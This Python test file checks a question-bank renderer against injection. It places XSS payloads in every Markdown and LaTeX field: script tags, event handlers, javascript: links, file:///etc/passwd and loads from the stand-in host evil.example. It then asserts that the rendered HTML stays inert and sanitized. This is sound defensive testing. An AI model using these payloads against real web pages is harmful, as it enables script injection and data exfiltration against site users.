"""Attacks in every field of a question: each is refused (a finding) or inert, and usually both."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from macros.bank.model import FollowUp, Question, Reference, Senior
from macros.render import links
from macros.render.batch import notes
from macros.render.links import FigureFiles
from macros.render.question import parts, render, work
from macros.render.sanitize import sanitize
from tests.render.html import elements

REFUSED = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover='alert(1)'>x</b>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<!-- a comment -->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "</details></article><script>alert(1)</script>",
    "<div>never closed",
    "<b><i>crossed</b></i>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](q:a\"onclick=\"alert)",
    "[x](<q:a b>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.png)",
    "![x](fig:../../secret)",
    "![\" onerror=\"alert(1)](https://evil.example/x)",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\htmlData{x=1}{y}$",
    "$\\htmlClass{md-search}{y}$",
    "$\\htmlId{x}{y}$",
    "$\\htmlStyle{position:fixed}{y}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\let\\x=\\href \\x{javascript:alert(1)}{y}$",
    "$\\textcolor{red;position:fixed}{x}$",
]  # fmt: skip
"""Each is a finding in every field that holds Markdown."""

INERT = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "`onclick=\"alert(1)\" href=\"javascript:alert(1)\"`",
    "< script>alert(1)</ script>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "\"><img src=x onerror =alert(1)//",
    "[x](https://example.org/\"onclick=\"alert)",
    "[x](https://example.org/ \"\\\" onclick=\\\"alert(1)\")",
    "![\\\" onerror=\\\"alert(1)](fig:a)",
    "![<script>`<script>`](fig:a \"'><script>\")",
    "$\\text{<script>alert(1)</script>}$",
    "$x < \\text{\" onclick=\"alert(1)}$",
    "@@q:other@@ {{ config }} {% raw %}",
    "q:other fig:other <a",
]  # fmt: skip
"""Each is text that shows itself, or a harmless link or figure."""

HTML = {
    *("p", "br", "hr", "em", "strong", "code", "pre", "blockquote", "a", "img", "ul", "ol", "li", "div", "span"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
KATEX = {
    *(
        "math",
        "semantics",
        "annotation",
        "mrow",
        "mi",
        "mn",
        "mo",
        "mtext",
        "mspace",
        "msup",
        "msub",
        "msubsup",
        "mfrac",
    ),
    *(
        "mstyle",
        "msqrt",
        "mroot",
        "mover",
        "munder",
        "munderover",
        "mtable",
        "mtr",
        "mtd",
        "mpadded",
        "mphantom",
        "menclose",
    ),
    *("svg", "path"),
}
ATTRIBUTES = {
    *("href", "title", "rel", "src", "alt", "start", "class", "style", "role", "aria-label", "aria-hidden", "tabindex"),
    *("width", "height", "loading", "decoding"),
}


def attacked(attack: str) -> Question:
    """A question whose every text is the attack."""
    return Question.model_construct(
        id="attacked",
        topic="probability",
        path="data/questions/probability/attacked.yml",
        question=attack,
        setup=attack,
        kind="concept",
        difficulty="easy",
        core=False,
        order=None,
        tags=["x"],
        aliases=[],
        asked_in=[],
        redirect_from=[],
        short=attack,
        answer=f"Before.\n\n{attack}\n\nAfter.",
        check=attack,
        pitfalls=[attack],
        follow_ups=[FollowUp.model_construct(ask=attack, answer=attack, see=None)],
        listen_for=[attack, Senior.model_construct(senior=attack)],
        related=[],
        references=[Reference.model_construct(title="x", url=None)],
    )


def fields(question: Question) -> Iterator[str]:
    """The HTML of every field, with links and figures as a page resolves them."""
    rendered = render(question)
    texts = [rendered.title, rendered.setup, rendered.short, rendered.answer, rendered.check, *rendered.pitfalls]
    texts += [text for item in rendered.follow_ups for text in (item.ask, item.answer)]
    texts += [item.html for item in rendered.listen_for]
    for html in texts:
        yield html
        yield links.resolve(
            html, lambda name: f"../other/#{name}", lambda name: FigureFiles(f"{name}.l", f"{name}.d", 2, 1)
        )


def dangers(html: str) -> list[str]:
    """Whatever in `html` could do something."""
    found = []
    for name, attributes in elements(html):
        if name not in HTML | KATEX:
            found.append(f"<{name}>")
        for attribute, value in attributes.items():
            if name not in KATEX and attribute not in ATTRIBUTES:
                found.append(f"{name} {attribute}={value}")
            if attribute.startswith("on") or "javascript:" in value.replace("\n", "").lower():
                found.append(f"{name} {attribute}={value}")
            if attribute in ("href", "src") and not value.startswith(
                ("https://example.org/", "../other/#", "q:", "fig:", "a.")
            ):
                found.append(f"{name} {attribute}={value}")
            if attribute == "style" and any(word in value for word in ("url", "expression", "fixed", "absolute")):
                found.append(f"{name} {attribute}={value}")
            if attribute == "id" or (attribute == "class" and "md-" in value):
                found.append(f"{name} {attribute}={value}")
    return found


@pytest.mark.parametrize("attack", [*REFUSED, *INERT])
def test_nothing_that_a_text_says_is_active(attack: str) -> None:
    for html in fields(attacked(attack)):
        assert dangers(html) == [], html


@pytest.mark.parametrize("attack", REFUSED)
def test_attacks_are_refused_in_every_field(attack: str) -> None:
    question = attacked(attack)
    locs = [(loc, part.form) for loc, part in parts(question)]
    refused = {locs[number][0] for number, _ in notes({"": work(question)}, None)[""].findings}
    assert refused == {loc for loc, form in locs if form in ("block", "inline")}


@pytest.mark.parametrize("attack", [*REFUSED, *INERT])
def test_an_attack_does_not_reach_its_neighbours(attack: str) -> None:
    """What stands before and after in the page stays where it was."""
    for html in fields(attacked(attack)):
        names = [name for name, _ in elements(f"<article><section>{html}</section><footer>end</footer></article>")]
        assert names[:2] == ["article", "section"]
        assert names[-1] == "footer"
        inside = f"<article><section>{html}</section></article>"
        assert len(list(elements(inside))) == len(list(elements(html))) + 2


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ("<script>alert(1)</script>a", "a"),
        ('<p onclick="x()">a</p>', "<p>a</p>"),
        ('<a href="javascript:x()">a</a>', "<a>a</a>"),
        ('<a href="/a">a</a>', "<a>a</a>"),
        ('<a href="q:a" rel="opener" target="_blank">a</a>', '<a href="q:a">a</a>'),
        ('<img src="data:image/png;base64,x" alt="a">', '<img alt="a">'),
        ('<td style="text-align:right;position:fixed">a</td>', "a"),
        ('<table><tr><td style="position:fixed">a</td></tr></table>', None),
        ('<div class="md-header" id="x">a</div>', "<div>a</div>"),
        ("<p>a", "<p>a</p>"),
        ("<svg><p>a</p></svg>", "<p>a</p>"),
        ("<style>p{}</style>a", "a"),
    ],
)
def test_the_sanitizer_is_a_second_line(html: str, clean: str | None) -> None:
    """Even if the converter wrote such HTML, it would not get through."""
    if clean is None:
        assert "fixed" not in sanitize(html)
    else:
        assert sanitize(html) == clean
